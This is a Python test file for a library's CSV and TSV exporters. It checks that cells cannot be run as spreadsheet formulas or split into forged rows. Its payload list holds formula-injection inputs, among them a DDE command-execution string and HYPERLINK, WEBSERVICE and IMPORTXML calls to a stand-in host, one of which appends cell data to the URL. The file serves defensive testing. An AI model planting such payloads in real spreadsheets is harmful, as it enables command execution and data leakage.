"""No cell of a table is run by a spreadsheet, none is split, no row is forged (500 payloads)."""

import csv
import io
import itertools
import os
import random
import re
from contextlib import closing

import pytest
from makers import practice

from gpkit.exporters import How
from gpkit.exporters.csv import export as export_csv
from gpkit.exporters.csv import guard, restore
from gpkit.exporters.tsv import export as export_tsv

SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
BEFORE = [
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\ufeff",
    " \t ",
    " " * 200,
]
AFTER = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://e.example?"&A1,"x")',
    'WEBSERVICE("http://e.example")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    'IMPORTXML("http://e.example","//a")',
]
PAYLOADS = [f"{a}{b}{c}" for a, b, c in itertools.product(BEFORE, SIGNS, AFTER)][:500]
FORGED = ['a","b', "a\r\nforged,row", 'a"\nforged,row', "a\rforged", "a\tb", ";", '"', "''", "'=1"]


def is_run(cell):
    """Tell whether a spreadsheet would take a cell for a formula, blanks and invisibles aside."""
    return cell.lstrip("".join(BEFORE) + "\x00\x0b\x0c\x1b")[:1] in SIGNS


def test_there_are_500():
    assert len(set(PAYLOADS)) == 500


@pytest.mark.parametrize(("export", "delimiter"), [(export_csv, ","), (export_tsv, "\t")])
@pytest.mark.parametrize("shape", ["wide", "long"])
def test_no_payload_is_run(export, delimiter, shape):
    out = io.StringIO(newline="")
    base = practice(5)
    titled = []
    for number, payload in enumerate([*PAYLOADS, *FORGED]):
        seen = base.observed[0]._replace(label=payload, values=())
        one = base._replace(id=f"generic/{number}", title=payload, observed=(seen,))
        titled.append(one)
    export(titled, How(shape), out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=delimiter))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(rows) == 1 + len(titled)
    assert [cell for row in rows for cell in row if is_run(cell)] == []
    place = rows[0].index("label" if shape == "long" else "title")
    assert [restore(row[place]) for row in rows[1:]] == [*PAYLOADS, *FORGED]


def test_what_is_no_formula_stays_as_it_is():
    for words in ("plain", "a=b", "3 - 2", "“=”", "Ελλάδα", "10-12", "[]", "x@y.example", ""):
        assert guard(words) == words


# Cut elsewhere ------------------------------------------------------------------------------------
# A spreadsheet that takes another separator than that of the file does not see its quotes either.

SEPARATORS = [",", ";", "\t"]
INSIDE = [f"a{s}{p}" for s in [*SEPARATORS, "\r", "\n", "; ", ';"', '; "'] for p in PAYLOADS[::4]]


def cut(text, separator):
    """Cut a table as a naive reader and as csv do."""
    for line in re.split("[\r\n]", text):
        yield from line.split(separator)
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        yield from row


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("export", [export_csv, export_tsv])
@pytest.mark.parametrize("shape", ["wide", "long"])
def test_no_payload_is_run_where_another_separator_cuts(export, shape, separator):
    out = io.StringIO(newline="")
    base = practice(5)
    titled = []
    for number, payload in enumerate(INSIDE):
        seen = base.observed[0]._replace(label=payload, values=())
        titled.append(base._replace(id=f"generic/{number}", title=payload, observed=(seen,)))
    export(titled, How(shape), out)
    bare = (cell.lstrip('"') for cell in cut(out.getvalue(), separator))
    assert [cell for cell in bare if is_run(cell)] == []


@pytest.mark.parametrize(
    ("words", "guarded"),
    [
        ("a; b, c", "a; b, c"),
        ("a;=1", "a;'=1"),
        ("a, -b", "a,' -b"),
        ("rock,'n roll", "rock,''n roll"),
        ("a;\t=1", "a;\t'=1"),
        ("a\r\n=1", "a\r\n'=1"),
        ('a;"=1"', 'a;\'"=1"'),
        ("a-b; c=d", "a-b; c=d"),
        ("\t\t=1", "'\t\t'=1"),
    ],
)
def test_where_the_apostrophe_stands(words, guarded):
    assert guard(words) == guarded
    assert restore(guarded) == words


# Back ---------------------------------------------------------------------------------------------

EXAMPLES = int(os.environ.get("GPKIT_EXAMPLES", "20000"))
LETTERS = [*SIGNS, *BEFORE[1:9], *SEPARATORS, "'", '"', "a", "1", "é", "\x0b", "\u2028", "; ", "🚀"]


def examples(number, seed=0):
    random_ = random.Random(seed)
    for _ in range(number):
        yield "".join(random_.choices(LETTERS, k=random_.randint(0, 9)))


@pytest.mark.timeout(1200)
def test_restore_undoes_guard():
    """As many as GPKIT_EXAMPLES says: a million in the nightly run."""
    starts_and_parts = re.compile(r"[,;\t\r\n]")
    for words in examples(EXAMPLES):
        guarded = guard(words)
        assert restore(guarded) == words
        assert not any(is_run(part) for part in starts_and_parts.split(guarded))
        assert len(guarded) >= len(words)


def with_csv(path, again):
    with path.open(encoding="utf-8", newline="") as file, again.open("w", newline="") as out:
        csv.writer(out).writerows(csv.reader(file, strict=True))


def with_pandas(path, again):
    import pandas

    frame = pandas.read_csv(path, dtype=str, keep_default_na=False)
    frame.to_csv(again, index=False, lineterminator="\r\n")


def with_polars(path, again):
    import polars

    polars.read_csv(path, infer_schema=False).write_csv(again)


def with_duckdb(path, again):
    import duckdb

    read = "read_csv(?, all_varchar = true, header = true, nullstr = '\x01', quote = '\"')"
    with closing(duckdb.connect()) as database:
        to = str(again).replace("'", "''")
        database.execute(f"COPY (FROM {read}) TO '{to}' (HEADER, QUOTE '\"')", [str(path)])


READERS = {"csv": with_csv, "duckdb": with_duckdb, "pandas": with_pandas, "polars": with_polars}


@pytest.mark.timeout(1200)
@pytest.mark.parametrize("reader", READERS)
def test_csv_through_a_reader_and_back_says_the_same(reader, tmp_path):
    path, again = tmp_path / "a.csv", tmp_path / "b.csv"
    words = [w for w in examples(max(EXAMPLES // 10, 1000), 1) if "\x00" not in w]
    wanted = [["id", "words", "more"], *([f"n{n}", w, w[::-1]] for n, w in enumerate(words))]
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([guard(cell) for cell in row] for row in wanted)
    READERS[reader](path, again)
    with again.open(encoding="utf-8", newline="") as file:
        there = [[restore(cell) for cell in row] for row in csv.reader(file, strict=True)]
    assert there == wanted
